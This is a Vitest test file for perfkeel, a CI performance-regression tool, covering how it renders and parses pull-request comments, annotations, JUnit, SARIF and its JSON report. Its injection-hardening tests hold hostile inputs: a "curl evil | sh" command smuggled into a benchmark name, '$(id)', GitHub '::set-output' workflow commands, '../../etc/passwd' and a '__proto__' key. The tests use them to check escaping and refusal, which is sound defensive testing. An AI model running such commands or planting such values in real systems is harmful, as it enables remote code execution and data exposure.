import { describe, expect, it, test } from 'vitest';
import { PerfError } from '@perfkeel/core';
import { comparing, failing, hostileName, nothingRan } from '../../test/support/fixtures.ts';
import { renderJunit } from '../junit/render-junit.ts';
import { renderSarif } from '../sarif/render-sarif.ts';
import { renderAnnotations } from '../step-summary/render-annotations.ts';
import { renderStepSummary } from '../step-summary/render-step-summary.ts';
import type { CiProject, CiReport, CiRow } from './ci-report.ts';
import { mergeCiReports } from './merge-ci-reports.ts';
import { encodeCiReport, parseCiReport } from './parse-ci-report.ts';
import { isNews } from './rank-rows.ts';
import { pullRequestBudget, renderPullRequest } from './render-pull-request.ts';
import { summariseReport } from './summarise-report.ts';

const row = (label: string, part: Partial<CiRow> = {}): CiRow => ({
  ...{ benchmark: label, label, metric: 'response-time', statistic: 'p99', unit: 'ns', base: 41.8e6, head: 47.9e6 },
  ...{ effect: { value: 0.146, lo: 0.112, hi: 0.181 }, decision: 'regressed', verdict: 'fail', rounds: 12 },
  ...part,
});
const same = (label: string): CiRow =>
  row(label, { decision: 'unchanged', verdict: 'pass', effect: { value: 0, lo: -0.01, hi: 0.01 } });
const project = (rows: readonly CiRow[], part: Partial<CiProject> = {}): CiProject => ({
  ...{ project: 'shop', folder: 'packages/shop', why: [], verdict: 'pass', exitCode: 0 },
  ...{ rows, objectives: [], failures: [], warnings: [], environment: [['node', '20']] },
  ...part,
});
const failed = (rows: readonly CiRow[], part: Partial<CiProject> = {}): CiProject =>
  project(rows, { verdict: 'fail', exitCode: 1, ...part });
const report = (projects: readonly CiProject[], part: Partial<CiReport> = {}): CiReport => ({
  ...{ schemaVersion: 1, tool: 'perfkeel 0.1.0', event: 'pull request', skipped: [], notes: [] },
  base: { label: '9c07d11', sha: '9c07d11'.padEnd(40, '0'), why: 'where this branch left main' },
  head: { label: '4be1a20', sha: '4be1a20'.padEnd(40, '0') },
  projects,
  ...part,
});

describe('the text for a pull request', () => {
  it('counts first, then what needs a person, what was compared, and what to do', () => {
    const rows = [
      same('a'),
      row('render', { decision: 'improved', verdict: 'pass', effect: { value: -0.216, lo: -0.224, hi: -0.207 } }),
      row('GET /orders', { label: 'GET /orders p99' }),
      row('bursts', { decision: 'inconclusive', verdict: 'inconclusive', reason: 'crosses', needs: '40 rounds' }),
    ];
    const text = renderPullRequest(report([failed(rows)], { skipped: [{ project: 'x', why: 'no changed input' }] }));
    expect(text.split('\n').slice(0, 9)).toEqual([
      '<!-- perfkeel:v1:main -->',
      '',
      '### ❌ perf: 1 regression to look at · 1 undecided · 1 improvement · 1 unchanged',
      '',
      '|  | benchmark | base | this | change (95 %) |  |',
      '| --- | --- | ---: | ---: | --- | --- |',
      '| ❌ | GET /orders p99 | 41.8 ms | 47.9 ms | +14.6 % \\[11.2, 18.1\\] slower | 12 rounds a side |',
      '| ❔ | bursts | 41.8 ms | 47.9 ms | +14.6 % \\[11.2, 18.1\\] | crosses; would be decided by 40 rounds |',
      '| 🎉 | render | 41.8 ms | 47.9 ms | −21.6 % \\[−22.4, −20.7\\] faster | 12 rounds a side |',
    ]);
    expect(text).toContain('**Compared:** 4be1a20 with 9c07d11: where this branch left main.');
    expect(text).toContain("npx perfkeel compare --against 9c07d1100000 -C packages/shop 'GET /orders'");
    expect(text).toContain('npx perfkeel accept \'GET /orders p99\' --reason "why" -C packages/shop');
    expect(text).toContain('**Not run:** 1 project');
  });

  it('says what ran, why, and what did not; what did not run is not gone', () => {
    const selection = {
      choices: [
        { project: 'shop', file: 'perf/a.perf.ts', decision: 'run', why: 'because src/a.ts -> core -> shop' },
        { project: 'shop', file: 'perf/b.perf.ts', decision: 'skip', why: 'no changed input' },
        { project: 'web', file: 'web/c.perf.ts', decision: 'skip', why: 'no changed input' },
      ],
      ...{ gone: ['perf/old.perf.ts'], ignored: ['README.md'] },
    } as const;
    const chosen = report([project([same('a')])], { selection });
    const text = renderPullRequest(chosen);
    expect(text).toContain('**Not run:** 2 of 3 perf files, for which nothing changed.');
    const [, folded = ''] = /<summary>What ran, and why: 1 of 3 perf files<\/summary>\n\n([^]*?)\n\n<\/details>/.exec(
      text,
    )!;
    expect(folded.split('\n')).toEqual([
      '- run shop: perf/a.perf.ts because src/a.ts -&gt; core -&gt; shop',
      '- skip shop: perf/b.perf.ts: no changed input',
      '- skip web: web/c.perf.ts: no changed input',
      '- gone perf/old.perf.ts',
      '- ignored README.md',
    ]);
    expect(renderStepSummary(chosen)).toContain(folded);
    expect(renderJunit(chosen)).toContain(
      [
        '  <testsuite name="not run" tests="2" failures="0" errors="0" skipped="2">',
        '    <testcase classname="shop" name="perf/b.perf.ts">',
        '      <skipped message="no changed input"/>',
      ].join('\n'),
    );
    expect(parseCiReport(encodeCiReport(chosen), 'x')).toEqual(chosen);
    const other = { ...selection, choices: [{ ...selection.choices[1], decision: 'run', why: 'because x' } as const] };
    const merged = mergeCiReports([
      { name: '20', report: chosen },
      { name: '22', report: report([], { selection: other }) },
    ]);
    expect(merged.selection?.choices.map(({ file, decision }) => `${decision} ${file}`)).toEqual([
      ...['run perf/a.perf.ts', 'run perf/b.perf.ts', 'skip web/c.perf.ts'],
    ]);
  });

  it('what is written can be read, whatever files are called and however many there are', () => {
    const long = `${'deep/'.repeat(90)}x.perf.ts`;
    const odd = 'docs/back\\slash\nline.md';
    const many = Array.from({ length: 12_000 }, (_, i) => `docs/${i}.md`);
    const selection = {
      choices: [{ project: 'shop', file: long, decision: 'run', why: 'because x' }],
      ...{ gone: [odd, 'a'.repeat(900)], ignored: many },
    } as const;
    const place = { file: long, line: 3 };
    const base = { label: `${'branch/'.repeat(50)} 9c07d11` };
    const notes = Array.from({ length: 150 }, (_, i) => `note ${i}`);
    const rows = [row('a', { place })];
    const read = parseCiReport(
      encodeCiReport(report([failed(rows, { base, folder: '../outside' })], { selection, notes })),
      'x',
    );
    expect(read.projects[0]!.rows[0]!.place).toEqual(place);
    expect(read.projects[0]).toMatchObject({ base, folder: '?' });
    expect(read.selection!.choices[0]!.file).toBe(long);
    expect(read.selection!.gone).toEqual(['docs/back?slash?line.md', `${'a'.repeat(499)}…`]);
    expect(read.selection!.ignored).toEqual(many.slice(0, 10_000));
    expect(read.notes).toHaveLength(100);
  });

  it('says in front why nothing could be compared, when nothing else needs a person', () => {
    const warnings = ["api: head's perf file does not run in base (no extra.ts)", 'the machine was busy'];
    const text = renderPullRequest(report([project([], { verdict: 'warn', warnings })]));
    expect(text).toContain('### ⚠️ perf: 1 project with a warning');
    const [shown] = text.split('<details>');
    expect(shown).toContain("> shop: api: head's perf file does not run in base");
    const warned = row('a', { verdict: 'warn' });
    expect(renderPullRequest(report([project([warned], { verdict: 'warn', warnings })]))).not.toContain('> shop: api');
  });

  it('is quiet when nothing changed', () => {
    const quiet = report([project([same('a'), same('b')])]);
    expect(renderPullRequest(quiet)).toContain('### ✅ perf: 2 unchanged · no action needed');
    expect(renderPullRequest(quiet)).not.toContain('What to do');
    expect(isNews(quiet)).toBe(false);
    expect(isNews(report([failed([row('a')])]))).toBe(true);
  });

  it('nothing ran is not green, nothing affected is', () => {
    expect(renderPullRequest(report([]))).toContain('⛔ perf: nothing ran');
    const skipped = [{ project: 'a', why: 'no changed input' }];
    expect(renderPullRequest(report([], { skipped }))).toContain('✅ perf: nothing that is measured was affected');
    const onlyNew = project([], { warnings: ['a is new: base has nothing to compare it with'] });
    expect(renderPullRequest(report([onlyNew]))).toContain('✅ perf: nothing to compare with yet');
  });

  it('says what was accepted, and what no longer is', () => {
    const acceptance = { id: 'a1', state: 'accepted', message: 'it does more now' } as const;
    const over = { id: 'b2', state: 'expired', message: 'accepted until 2026-01-01 only' } as const;
    const text = renderPullRequest(
      report([
        failed([row('x', { decision: 'accepted', verdict: 'pass', acceptance }), row('y', { acceptance: over })]),
      ]),
    );
    expect(text).toContain('1 regression to look at · 1 accepted');
    expect(text).toContain('accepted (a1): it does more now');
    expect(text).toMatch(/☑️ \| x \|.* slower \|/);
    expect(text).toContain('acceptance expired (b2): accepted until 2026-01-01 only');
  });
});

describe('5 000 rows', () => {
  const many = (failing: number, all: number): CiReport =>
    report([
      failed(Array.from({ length: all }, (_, i) => (i < failing ? row(`bench-${i}-end`) : same(`bench-${i}-end`)))),
    ]);

  it.each([400])('of which %i fail: each of them is in the text, by name', (failing) => {
    const text = renderPullRequest(many(failing, 5000));
    expect(text.length).toBeLessThanOrEqual(pullRequestBudget);
    for (let i = 0; i < failing; i++) expect(text).toContain(`bench-${i}-end`);
    expect(text).toContain(`${failing} regressions to look at`);
  });

  it('that all fail: the number is exact, as many names as fit, and where the others are', () => {
    const text = renderPullRequest(many(5000, 5000));
    expect(text.length).toBeLessThanOrEqual(pullRequestBudget);
    const shown = text.match(/bench-\d+-end/g)!.length;
    expect(shown).toBeGreaterThan(1000);
    expect(text).toMatch(/5\s000 failing rows/);
    expect(text.replaceAll(/(?<=\d)\s(?=\d)/g, '')).toContain(`${5000 - shown} more in comparison.json`);
  });

  it('in the summary of a job there is room for all of them, under 1 MiB', () => {
    const text = renderStepSummary(many(5000, 5000));
    expect(Buffer.byteLength(text)).toBeLessThan(2 ** 20);
    expect(text).toContain('bench-4999-end');
  });

  it('names of 200 characters from two scripts, in 100 projects, stay within both budgets', () => {
    const projects = Array.from({ length: 100 }, (_, i) =>
      failed([row('ж'.repeat(200)), row('|'.repeat(200))], { project: `${i}${'&'.repeat(190)}` }),
    );
    expect(renderPullRequest(report(projects)).length).toBeLessThanOrEqual(pullRequestBudget);
    expect(Buffer.byteLength(renderStepSummary(report(projects)))).toBeLessThan(2 ** 20);
  });

  it('a thousand failures of long words stay within the budget and are counted', () => {
    const failures = Array.from({ length: 1000 }, (_, i) => ({
      benchmark: `b${i}`,
      code: 'x',
      message: 'w'.repeat(900),
    }));
    const text = renderPullRequest(report([failed([], { failures, verdict: 'could-not-measure', exitCode: 4 })]));
    expect(text.length).toBeLessThanOrEqual(pullRequestBudget);
    expect(text).toMatch(/1\s000 could not be measured/);
    for (let i = 0; i < 1000; i++) expect(text).toContain(`b${i} `);
  });
});

describe('hostile names', () => {
  const evil = `${hostileName} <!-- perfkeel:v1:main --> #123 GH-4 https://a.example ::error::x\n::set-output name=a::b`;
  const hostile = report(
    [
      failed([row(evil, { reason: evil, acceptance: { id: evil, state: 'exceeded', message: evil } })], {
        project: evil,
        leg: evil,
        warnings: [evil],
        why: [evil],
        objectives: [{ benchmark: evil, objective: evil, verdict: 'fail', message: evil }],
        failures: [{ benchmark: evil, code: 'x', message: evil }],
        environment: [[evil, evil]],
      }),
      failed([row(evil)], { project: 'two' }),
    ],
    {
      notes: [evil],
      base: { label: evil, sha: 'abcdef0', why: evil },
      tool: evil,
      skipped: [{ project: evil, why: evil }],
      selection: {
        choices: [{ project: evil, file: evil, decision: 'skip', why: evil }],
        gone: [evil],
        ignored: [evil],
      },
    },
  );

  it('come out of Markdown as text', () => {
    const outside = renderPullRequest(hostile).replace(/(`{3,})sh\n[\s\S]*?\n\1/g, '');
    expect(outside.match(/<!--/g)).toHaveLength(1);
    expect(outside.replace(/<\/?(?:details|summary|sub)>|<!-- perfkeel:v1:main -->|^> /gm, '')).not.toMatch(/[<>]/);
    expect(outside).not.toMatch(/@(?!\u200b)/);
    expect(outside).not.toMatch(/(?<!\\)#\d|GH-\d|https:\/\/|(?<!\\)`|(?<!\\)\]\(/);
    for (const line of outside.split('\n').filter((line) => line.startsWith('| ❌') && line.includes('slower'))) {
      expect(line.match(/(?<!\\)\|/g)).toHaveLength(7);
    }
  });

  it('command nothing on GitHub: each annotation is one line', () => {
    const lines = renderAnnotations(hostile).trimEnd().split('\n');
    expect(lines).toHaveLength(4);
    for (const line of lines) expect(line).toMatch(/^::error::[^\r\n]*$/);
    const place = { file: 'a,b:c%\n::stop.perf.ts', line: 3 };
    expect(renderAnnotations(report([failed([row('x', { place })])]))).toBe(
      '::error file=a%2Cb%3Ac%25 %3A%3Astop.perf.ts,line=3::x: +14.6 %25 [11.2, 18.1]\n',
    );
  });

  it('are attributes in XML and text in JSON', () => {
    const xml = renderJunit(hostile);
    expect(xml.replace(/<[^<>]*>/g, '').trim()).toBe('');
    expect(xml).not.toMatch(/[\u0000-\u0008\u000b-\u001f]/);
    expect(xml).toContain('tests="3" failures="2" errors="1" skipped="0"');
    expect((JSON.parse(renderSarif(hostile)) as { runs: { results: unknown[] }[] }).runs[0]!.results).toHaveLength(4);
  });

  it('a command cannot be put into the text', () => {
    const name = "x'; curl evil | sh; '";
    const text = renderPullRequest(
      report([failed([row(name)], { folder: '$(id)' })], { base: { label: 'a', sha: ';id' } }),
    );
    expect(text).toContain(`npx perfkeel compare --against main -C '$(id)' 'x'\\''; curl evil | sh; '\\'''`);
  });
});

describe('files', () => {
  const full = report([
    failed([row('a', { place: { file: 'a/b.perf.ts', line: 3 }, effect: { value: 1, lo: -Infinity, hi: Infinity } })], {
      control: { pairs: 2, largest: 0.014 },
      failures: [{ code: 'threw', message: 'no' }],
    }),
  ]);

  test('comparison.json comes back as it was', () => {
    expect(parseCiReport(encodeCiReport(full), 'x')).toEqual(full);
  });

  test.each([
    ['{', 'it is not JSON'],
    ['[]', 'the file is not an object'],
    [encodeCiReport({ ...full, extra: 1 } as never), '.extra is not a known field'],
    [encodeCiReport({ ...full, schemaVersion: 2 } as never), 'schemaVersion is not 1'],
    [JSON.stringify({ ...full, tool: 'x'.repeat(201) }), 'tool is not a text of at most 200'],
    [
      JSON.stringify(report([project([row('a', { place: { file: '../../etc/passwd', line: 1 } })])])),
      'file is not a path',
    ],
    [JSON.stringify(report([project([], { folder: '/etc' })])), 'folder is not a path'],
    [encodeCiReport(full).replace('{', '{"__proto__": {"a": 1},'), '__proto__ is not a known field'],
  ])('%#: refused', (text, why) => {
    const read = (): CiReport => parseCiReport(text, 'in/comparison.json');
    expect(read).toThrow(PerfError);
    expect(read).toThrow(why);
  });

  test('what is too long is cut when it is written, so that it can be read', () => {
    const long = report([
      project([row('ж'.repeat(900), { reason: 'y'.repeat(9000) })], { warnings: ['z'.repeat(9000)] }),
    ]);
    expect(parseCiReport(encodeCiReport(long), 'x').projects[0]!.rows[0]!.benchmark).toHaveLength(200);
  });

  test('JUnit and SARIF', () => {
    const xml = renderJunit(full);
    expect(xml).toContain('<testcase classname="a" name="response-time p99">');
    expect(xml).toContain('<property name="change" value="1"/>');
    expect(xml).toContain('<failure type="regression" message="+100 % [no interval]"/>');
    expect(renderJunit(report([]))).toContain('<error type="not-measured" message="nothing ran"/>');
    expect(JSON.parse(renderSarif(full))).toMatchObject({
      version: '2.1.0',
      runs: [
        { results: [{ ruleId: 'regression', locations: [{ physicalLocation: { region: { startLine: 3 } } }] }, {}] },
      ],
    });
  });
});

describe('what a report amounts to', () => {
  const options = { folder: 'a', exitCode: 1, toplevel: '/srv/shop' };

  it('has rows with medians and places, and no path of the machine', () => {
    const summary = summariseReport(comparing(), options);
    expect(summary).toMatchObject({ project: 'orders-api', verdict: 'fail', exitCode: 1 });
    expect(summary.rows[0]).toMatchObject({
      ...{ label: 'checkout p99', decision: 'regressed', verdict: 'fail', rounds: 6 },
      place: { file: 'perf/orders.perf.ts', line: 10 },
    });
    expect(JSON.stringify(summariseReport(failing(), options))).not.toContain('"/srv');
    expect(summariseReport(failing(), options).failures).toHaveLength(2);
    expect(summariseReport(failing(), { ...options, toplevel: '/other' }).failures[0]!.place).toBeUndefined();
    expect(summariseReport(nothingRan(), options).verdict).toBe('could-not-measure');
  });

  it('several jobs: legs are told apart, and what one measured is not skipped', () => {
    const merged = mergeCiReports([
      { name: 'node-20', report: report([project([same('a')])]) },
      { name: 'node-22', report: report([project([same('a')])], { skipped: [{ project: 'shop', why: 'x' }] }) },
      { name: 'c', report: report([project([], { project: 'web' })], { head: { label: 'z', sha: 'fffffff' } }) },
    ]);
    expect(merged.projects.map(({ project, leg }) => [project, leg])).toEqual([
      ['shop', 'node-20'],
      ['shop', 'node-22'],
      ['web', undefined],
    ]);
    expect(merged.skipped).toEqual([]);
    expect(merged.notes).toEqual(['The jobs measured different commits.']);
  });
});
